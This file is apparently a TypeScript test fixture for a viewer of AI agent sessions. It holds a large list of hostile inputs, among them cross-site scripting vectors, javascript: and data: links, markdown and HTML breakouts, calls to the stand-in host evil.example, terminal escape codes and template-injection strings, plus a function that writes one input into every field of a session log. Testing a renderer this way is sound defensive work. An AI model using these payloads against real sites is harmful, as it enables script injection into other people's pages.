/** Hostile texts, and sessions that say them wherever they can. */

import { headerText, id } from "./lines.ts";

const TAGS = "script iframe object embed svg math style link meta base form input video audio template xmp title".split(
  " ",
);
const EVENTS = "onload onerror onclick onfocus ontoggle onbegin onanimationstart onmouseover".split(" ");
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "\u0001javascript:",
  "data:text/html,",
  "vbscript:",
  "file:///",
  "blob:",
  "//evil.example/",
  "ftp://",
];

/** Text that tries to act. */
export const PAYLOADS = [
  ...TAGS.flatMap((tag) => [
    `<${tag}>alert(1)</${tag}>`,
    `</pre></div></article></details></${tag}><${tag} src=//evil.example/x>`,
  ]),
  ...EVENTS.map((event) => `"><img src=x ${event}=alert(1)> ' ${event}='alert(1)`),
  ...SCHEMES.flatMap((scheme) => [
    `[x](${scheme}alert(1))`,
    `[x](<${scheme}alert(1)> "t")`,
    `![x](${scheme}alert(1))`,
    `<${scheme}alert(1)>`,
    `[r]\n\n[r]: ${scheme}alert(1)`,
  ]),
  '[x](https://evil.example/"onmouseover=alert(1)//)',
  "[x](https://evil.example/' onclick='alert(1))",
  "[x](https://evil.example/&quot;onclick=alert&lpar;1)",
  "[x](java&#115;cript&colon;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "![x](https://evil.example/a.png 'onerror=alert(1)')",
  "<https://evil.example/<script>>",
  "http://evil.example/\u202egpj.exe",
  "```<script>\n</pre><script>alert(1)</script>\n```",
  '```js"onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
  "~~~diff\n+</span><script>alert(1)</script>\n-<!--\n@@ ]]> @@\n~~~",
  "`</code><script>alert(1)</script>`",
  '| <script> | "x |\n|:-|-:|\n| </table><img src=x onerror=alert(1)> | `<b>` |',
  "# </h4><script>alert(1)</script>",
  "> </blockquote><script>alert(1)</script>",
  "- [x] </li></ul><script>alert(1)</script>",
  "<!-- --><!--> <!---> --!> <![CDATA[ ]]> <?php ?> <!doctype html>",
  "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e; &lt;script&gt;",
  "&#0; &#x1b;[31m &#x202e; &#x2066; &#xfeff; &#xd800; &#x110000;",
  "\u0000\u0001\u001b[31mred\u001b[0m\u001b]0;t\u0007\u009b2J\u007f\u0085",
  "\u202eabc\u202c\u2066x\u2069\u200e\u200f\u061c\ufeff\u2028\u2029",
  "\ud800 \udc00 \ud83d",
  '\u001b[38;5;1"><script>m \u001b[31;"m \u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007',
  "*{background:url(//evil.example)}</style><style>@import '//evil.example';",
  "\\3c script\\3e alert(1)",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what templates of others take
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
  "x".repeat(5000) + "<script>".repeat(200),
  `${"line <b>\n".repeat(40)}</summary></details><script>alert(1)</script>`,
  'diff --git a/x b/x\n--- a/<script>\n+++ b/"x\n@@ -1 +1 @@\n-<b>\n+</pre><script>',
  "+ 12 <script>\n- 13 </span>\n    ...\n",
  "[".repeat(2000),
  "<".repeat(2000),
  "__proto__",
  "constructor",
];

/** Puts a text into every place of a session that a page may show. */
export function sessionSaying(said: string): string {
  const lines: string[] = [headerText({ cwd: said, parentSession: said })];
  const add = (type: string, rest: Record<string, unknown>, timestamp = said): void => {
    const n = lines.length - 1;
    lines.push(JSON.stringify({ type, id: id(n), parentId: n === 0 ? null : id(n - 1), timestamp, ...rest }));
  };
  const message = (rest: Record<string, unknown>): void => add("message", { message: rest });
  const block = { type: "text", text: said };
  const calls = ["bash", "read", "write", "edit", "grep", said].map((name, n) => ({
    type: "toolCall",
    id: `${n}${said}`,
    name,
    arguments: {
      command: said,
      path: said,
      content: said,
      oldText: said,
      newText: `${said}\n!`,
      [said]: said,
      pattern: [said],
    },
  }));
  message({ role: "user", content: said });
  message({
    role: "assistant",
    provider: said,
    model: said,
    stopReason: "error",
    errorMessage: said,
    usage: { input: said, output: 3, totalTokens: said, cost: { total: said } },
    content: [block, { type: "thinking", thinking: said }, ...calls, { type: said, text: said }],
  });
  for (const [n, { name }] of calls.entries())
    message({
      role: "toolResult",
      toolCallId: n === 5 ? said : `${n}${said}`,
      toolName: name,
      isError: n % 2 === 0,
      content: [
        block,
        { type: "image", mimeType: said, data: said },
        { type: "image", mimeType: "image/png", data: said },
      ],
      details: n === 4 ? { diff: said } : { [said]: said },
    });
  message({ role: "bashExecution", command: said, output: said, exitCode: 1 });
  message({ role: said, content: [block] });
  add("custom_message", { customType: said, content: said, details: { [said]: said } });
  add("custom_message", { customType: said, content: [block], display: false });
  add("compaction", { summary: said, firstKeptEntryId: id(6), tokensBefore: said });
  add("branch_summary", { summary: said, fromId: said });
  add("model_change", { provider: said, modelId: said });
  add("thinking_level_change", { thinkingLevel: said });
  add("label", { targetId: id(0), label: said });
  add("session_info", { name: said });
  add("custom", { customType: said, data: { [said]: said } });
  add(`${said}.`, { [said]: said });
  message({ role: "user", content: [block, block] });
  const own = { type: "message", id: said, parentId: id(0), timestamp: `2026-01-01T00:00:00Z${said}` };
  lines.push(JSON.stringify({ ...own, message: { role: "user", content: said } }));
  return `${lines.join("\n")}\n`;
}
